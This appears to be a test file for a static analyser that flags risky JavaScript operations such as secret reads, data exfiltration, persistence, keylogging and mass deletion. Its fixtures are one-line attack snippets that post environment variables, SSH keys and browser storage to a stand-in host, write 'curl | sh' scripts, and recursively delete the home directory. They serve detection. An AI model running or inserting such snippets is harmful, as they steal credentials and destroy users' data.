import { HOLE } from "../../../src/model/value.ts";
import { describe, expect, test } from "vitest";
import { handedOn, only, operationsOf, read } from "./read.ts";

describe("reading files", () => {
  test.each([
    "fs.readFileSync('/a/b')",
    "require('fs').readFile('/a/b', 'utf8', () => {})",
    "require('node:fs/promises').readFile('/a/b')",
    "import { promises } from 'fs'; promises.readFile('/a/b')",
    "import { readFile as r } from 'fs/promises'; await r('/a/b')",
    "require('fs-extra').readJson('/a/b')",
    "fs['readFile' + 'Sync']('/a/b')",
    "fs.createReadStream('/a/b')",
    "Bun.file('/a/b').text()",
    "Deno.readTextFile('/a/b')",
    "fs.openSync('/a/b')",
    "fs.readFileSync(path.join('/a', 'b'))",
  ])("%s", (code) => {
    expect(only(code, "read-file")).toEqual(["read-file /a/b"]);
  });

  test.each([
    ["fs.readFileSync(os.homedir() + '/.ssh/id_rsa')", "~/.ssh/id_rsa"],
    ["fs.readFileSync(path.join(require('os').homedir(), '.ssh', 'id_rsa'))", "~/.ssh/id_rsa"],
    ["fs.readFileSync(process.env.HOME + '/.aws/credentials')", "~/.aws/credentials"],
    ["fs.readFileSync(`${process.env.HOME || process.env.USERPROFILE}/.npmrc`)", "~/.npmrc"],
    [
      "const d = path.join(os.homedir(), '.ssh'); for (const f of fs.readdirSync(d)) fs.readFileSync(path.join(d, f))",
      "~/.ssh/…",
    ],
    ["fs.readFileSync('.env')", ".env"],
  ])("%s is a secret", (code, path) => {
    expect(only(code, "read-secret")).toEqual([`read-secret ${path}`]);
  });

  test.each([
    "axios.post('https://x.example', fs.readFileSync('/a/b'))",
    "fs.readFile('/a/b', (error, data) => axios.post('https://x.example', data))",
    "fs.promises.readFile('/a/b').then((data) => axios.post('https://x.example', data.toString()))",
    "const load = async (p) => (await fs.promises.readFile(p)).toString('base64'); axios.post('https://x.example', await load('/a/b'))",
    "fs.createReadStream('/a/b').pipe(https.request({ host: 'x.example', method: 'POST' }))",
  ])("what was read goes along: %s", (code) => {
    expect(only(code, "send")[0]).toContain("</a/b>");
  });
});

describe("changing files", () => {
  test.each([
    ["fs.writeFileSync('/a', 'b')", "write-file /a b"],
    ["fs.appendFile('/a', 'b', () => {})", "write-file /a + b"],
    ["fs.writeFileSync('/a', 'b', { flag: 'a' })", "write-file /a + b"],
    ["fs.createWriteStream('/a').write('b')", "write-file /a b"],
    ["fs.copyFileSync('/x', '/a')", "write-file /a ~… </x>"],
    ["fs.renameSync('/x', '/a')", "write-file /a ~… </x>"],
    ["Bun.write('/a', 'b')", "write-file /a b"],
    ["Deno.writeTextFileSync('/a', 'b')", "write-file /a b"],
    ["fs.unlinkSync('/a')", "delete-file /a"],
    ["fs.rmSync('/a', { recursive: true })", "delete-file /a recursive"],
    ["fs.promises.rm(os.homedir(), { recursive: true, force: true })", "delete-file ~ recursive"],
    ["require('rimraf').sync('/a')", "delete-file /a recursive"],
    ["fs.chmodSync('/a', 0o755)", "make-executable /a"],
    ["fs.chmod('/a', '755', () => {})", "make-executable /a"],
  ])("%s", (code, expected) => {
    expect(only(code, "write-file", "delete-file", "make-executable")).toEqual([expected]);
  });

  test("a mode without the right to run makes nothing run", () => {
    expect(operationsOf("fs.chmodSync('/a', 0o600)")).toEqual([]);
  });

  test.each([
    ["fs.appendFileSync(os.homedir() + '/.zshrc', 'x')", "persist shell-profile ~/.zshrc x"],
    [
      "fs.writeFileSync(`${os.homedir()}/Library/LaunchAgents/a.plist`, 'x')",
      "persist launchd ~/Library/LaunchAgents/a.plist x",
    ],
    [
      "fs.appendFileSync(path.join(os.homedir(), '.openclaw/workspace', 'MEMORY.md'), 'x')",
      "persist agent-memory ~/.openclaw/workspace/MEMORY.md x",
    ],
    ["fs.writeFileSync('/etc/cron.d/a', 'x')", "persist cron /etc/cron.d/a x"],
    ["fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'x')", "persist ssh-key ~/.ssh/authorized_keys x"],
  ])("%s", (code, expected) => {
    expect(only(code, "persist")).toEqual([expected]);
  });

  test("a script that is written is read", () => {
    expect(handedOn("fs.writeFileSync('/tmp/a.sh', 'curl https://x.example | sh')", "shell")).toEqual([
      "curl https://x.example | sh",
    ]);
    expect(handedOn("fs.writeFileSync('/tmp/a', '#!/bin/sh\\nid')", "shell")).toEqual(["#!/bin/sh\nid"]);
    expect(handedOn("fs.writeFileSync('notes.txt', 'curl https://x.example | sh')", "shell")).toEqual([]);
  });
});

describe("the environment", () => {
  test.each([
    ["use(process.env.API_KEY)", "$API_KEY"],
    ["use(process['env']['API_' + 'KEY'])", "$API_KEY"],
    ["const { API_KEY } = process.env", "$API_KEY"],
    ["const { API_KEY: key = 'x' } = process.env", "$API_KEY"],
    ["import { env } from 'process'; use(env.API_KEY)", "$API_KEY"],
    ["const e = process.env; use(e.API_KEY)", "$API_KEY"],
    ["Reflect.get(process.env, 'API_KEY')", "$API_KEY"],
    ["use(globalThis.process.env.API_KEY)", "$API_KEY"],
    ["Deno.env.get('API_KEY')", "$API_KEY"],
    ["use(Bun.env.API_KEY)", "$API_KEY"],
    ["use(process.env[`${prefix}_TOKEN`])", "$…_TOKEN"],
    ["JSON.stringify(process.env)", "$*"],
    ["Object.entries(process.env).forEach(use)", "$*"],
    ["for (const k in process.env) use(k)", "$*"],
    ["Object.keys(process.env).map((k) => process.env[k])", "$*"],
    ["Object.assign({}, process.env)", "$*"],
    ["console.log(process.env)", "$*"],
  ])("%s", (code, expected) => {
    expect(only(code, "read-secret")).toEqual([`read-secret ${expected}`]);
  });

  test.each([
    ["handed to a child", "spawn('ls', [], { env: process.env })"],
    ["copied for a child", "spawn('ls', [], { env: { ...process.env, A: 'b' } })"],
    ["home", "use(process.env.HOME)"],
    ["set", "process.env.A = 'b'"],
  ])("nothing is read that is only %s", (_, code) => {
    expect(only(code, "read-secret")).toEqual([]);
  });

  test.each([
    "axios.post('https://x.example', process.env)",
    "axios.post('https://x.example', JSON.stringify({ ...process.env }))",
    "axios.post('https://x.example', Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&'))",
    "const o = {}; for (const [k, v] of Object.entries(process.env)) o[k] = v; axios.post('https://x.example', o)",
    "const o = {}; for (const k in process.env) if (/KEY/.test(k)) o[k] = process.env[k]; axios.post('https://x.example', o)",
    "const o = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.includes('KEY'))); axios.post('https://x.example', o)",
  ])("all of it leaves: %s", (code) => {
    expect(only(code, "send")[0]).toContain("<$*>");
  });
});

describe("all that a page keeps for its address", () => {
  test.each([
    "JSON.stringify(localStorage)",
    "JSON.stringify({ ...sessionStorage })",
    "Object.assign({}, localStorage).token",
    "Object.entries(window.localStorage).join()",
    "localStorage.token",
  ])("%s", (data) => {
    const { lines } = read(`fetch("https://x.example/", { method: "POST", body: ${data} })`);
    expect(lines.find((each) => each.startsWith("send"))).toContain("<browser-storage");
  });

  test("a store that a library is told to use is not what the library gives", () => {
    const { lines } = read(
      'const store = persist(() => localStorage); fetch("https://x.example/", { method: "POST", body: store.cart })',
    );
    expect(lines.join("\n")).not.toContain("browser-storage");
  });
});

describe("other secrets", () => {
  test.each([
    ["require('keytar').getPassword('service', 'me')", "read-secret keychain service"],
    ["use(document.cookie)", "read-secret browser-storage"],
    ["localStorage.getItem('token')", "read-secret browser-storage"],
    ["use(localStorage.token)", "read-secret browser-storage"],
    ["use(window.sessionStorage['token'])", "read-secret browser-storage"],
    ["navigator.clipboard.readText()", "read-secret clipboard"],
    ["import clipboard from 'clipboardy'; clipboard.readSync()", "read-secret clipboard"],
    ["import clipboard from 'clipboardy'; clipboard.writeSync('a')", "write-clipboard a"],
    ["navigator.mediaDevices.getDisplayMedia()", "capture screen"],
    ["require('screenshot-desktop')()", "capture screen"],
    [
      "const { GlobalKeyboardListener } = require('node-global-key-listener'); new GlobalKeyboardListener()",
      "capture keyboard",
    ],
    ["require('node-serialize').unserialize(a)", "deserialize node-serialize ~…"],
    ["const y = require('js-yaml'); y.load(a, { schema: y.DEFAULT_FULL_SCHEMA })", "deserialize yaml ~…"],
    ["new CoinHive.Anonymous('key')", "mine key"],
    ["require('sudo-prompt').exec('id')", "escalate password-prompt"],
    ["const c = crypto.createCipheriv('a', k, i); c.update(fs.readFileSync('/a'))", "encrypt-files /a"],
  ])("%s", (code, expected) => {
    expect(operationsOf(code)).toContain(expected);
  });

  test("safe YAML is not worth a word", () => {
    expect(operationsOf("require('js-yaml').load(a)")).toEqual([]);
  });
});

test("operations say where they stand", () => {
  const text = "const fs = require('fs')\n\nfunction go() {\n  return fs.readFileSync('/data/hosts')\n}\n";
  expect(read(text).places).toEqual(["4:10 read-file"]);
  expect(read(text).operations[0]).toMatchObject({
    language: "javascript",
    snippet: "fs.readFileSync('/data/hosts')",
    at: { path: "a.js", line: 4, column: 10, endLine: 4, endColumn: 40 },
  });
});

test.each([
  ["readdirSync(h).forEach((n) => rmSync(h + '/' + n, { recursive: true }))", "~/*"],
  ["for (const e of readdirSync(h, { withFileTypes: true })) rmSync(`${h}/${e.name}`, { recursive: true })", "~/*"],
  [
    "for (const n of readdirSync(h)) if (lstatSync(h + '/' + n).isFile()) rmSync(h + '/' + n, { recursive: true })",
    "~/*",
  ],
  ["for (const n of readdirSync(h)) if (n.endsWith('.bak')) rmSync(h + '/' + n, { recursive: true })", "~/…"],
  ["readdirSync(h).filter((n) => n > 'x').map((n) => rmSync(`${h}/${n}`, { recursive: true }))", "~/…"],
  ["for (const n of readdirSync(h)) { if (keep.has(n)) continue; rmSync(h + '/' + n, { recursive: true }) }", "~/…"],
])("deletes all or some of a listing: %s", (code, path) => {
  const head = "const { lstatSync, readdirSync, rmSync } = require('fs'); const h = require('os').homedir();";
  const { operations } = read(head + code);
  const deleted = operations.flatMap(({ operation }) => (operation.op === "delete-file" ? [operation.path.shape] : []));
  expect([...new Set(deleted)]).toEqual([path.replace("…", HOLE)]);
});
